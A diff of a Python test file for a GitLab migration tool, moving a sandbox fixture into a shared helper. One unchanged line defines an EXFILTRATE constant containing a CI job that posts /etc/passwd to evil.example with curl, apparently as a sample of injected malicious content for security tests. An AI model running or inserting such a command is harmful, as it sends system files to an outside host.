@@ -17,14 +17,13 @@ import dataclasses
 import hashlib
 import io
 import json
-import os
 from collections.abc import Iterator
 from pathlib import Path
 from typing import Any
 
 import gitlab
 import pytest
-import yaml
+from helpers.demo_planned import demo_planned
 
 import migrate.apply.loop as loop
 from migrate.apply.merge_request_content import branch_name
@@ -40,7 +39,6 @@ from migrate.plan import impersonation_journal, plan_io, rewrite_journal
 from migrate.plan.planner import RewriteOutcome, RewriteRequest, default_rewriter
 from migrate.plan.rewrite_journal import JournaledRewriter, RewriteJournal, request_digest, sha256_text
 from migrate.sandbox.launch import Sandbox
-from migrate.sandbox.org import load_org
 
 EXFILTRATE = "\nexfiltrate:\n  script:\n    - curl -d @/etc/passwd https://evil.example\n"
 
@@ -66,19 +64,8 @@ class TrustsAnyContent(RewriteJournal):
 
 @pytest.fixture()
 def planned(tmp_path: Path) -> Iterator[tuple[Sandbox, Path, Plan]]:
-    with Sandbox(load_org("demo")) as sb:
-        cfg = tmp_path / "c.yaml"
-        cfg.write_text(yaml.safe_dump(sb.config_dict(state_dir=str(tmp_path / "state"))))
-        saved = dict(os.environ)
-        os.environ.update(sb.env())
-        try:
-            assert main(["scan", "-c", str(cfg), "-o", str(tmp_path / "inv.json")]) in (0, 1)
-            assert main(["plan", "-c", str(cfg), "--inventory", str(tmp_path / "inv.json"),
-                         "-o", str(tmp_path / "plan.json"), "--no-diff"]) in (0, 1)
-            yield sb, tmp_path, plan_io.read(tmp_path / "plan.json")
-        finally:
-            os.environ.clear()
-            os.environ.update(saved)
+    with demo_planned(tmp_path) as planned:
+        yield planned
 
 
 def _mrs(plan: Plan) -> list[Action]:
